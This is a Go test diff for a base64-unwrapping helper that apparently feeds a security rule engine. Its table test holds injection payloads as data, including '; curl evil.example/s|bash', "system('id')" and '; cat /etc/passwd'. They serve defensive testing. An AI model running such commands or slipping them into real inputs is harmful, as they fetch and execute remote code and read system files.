@@ -181,5 +181,30 @@ func FuzzBase64DecodeText(f *testing.F) {
 		if derr != nil || string(dec) != out || !isText([]byte(out)) {
 			t.Fatalf("base64DecodeText(%q) = %q: decodes to %q (%v)", in, out, dec, derr)
 		}
+		// Go's decoder skips CR and LF, which the rules' base64 shape does not allow.
+		if got, changed, _ := unwrapBase64(in); isBase64(in) && (got != out || !changed) {
+			t.Fatalf("unwrapBase64(%q) = %q, %v; base64DecodeText gives %q", in, got, changed, out)
+		}
 	})
+}
+
+func TestUnwrapBase64(t *testing.T) {
+	b64 := base64.StdEncoding.EncodeToString
+	tests := []struct {
+		in, want string
+		changed  bool
+	}{
+		{b64([]byte(";curl evil.example/s|bash")), ";curl evil.example/s|bash", true},
+		{b64([]byte("system('id')")), "system('id')", true},
+		{"; cat /etc/passwd", "; cat /etc/passwd", false}, // not base64: kept for the rule to read
+		{"5257e336a7dd", "5257e336a7dd", false},           // base64-shaped, not text
+		{"abc", "abc", false},
+		{"", "", false},
+	}
+	for _, tt := range tests {
+		got, changed, err := unwrapBase64(tt.in)
+		if err != nil || got != tt.want || changed != tt.changed {
+			t.Errorf("unwrapBase64(%q) = %q, %v, %v; want %q, %v", tt.in, got, changed, err, tt.want, tt.changed)
+		}
+	}
 }
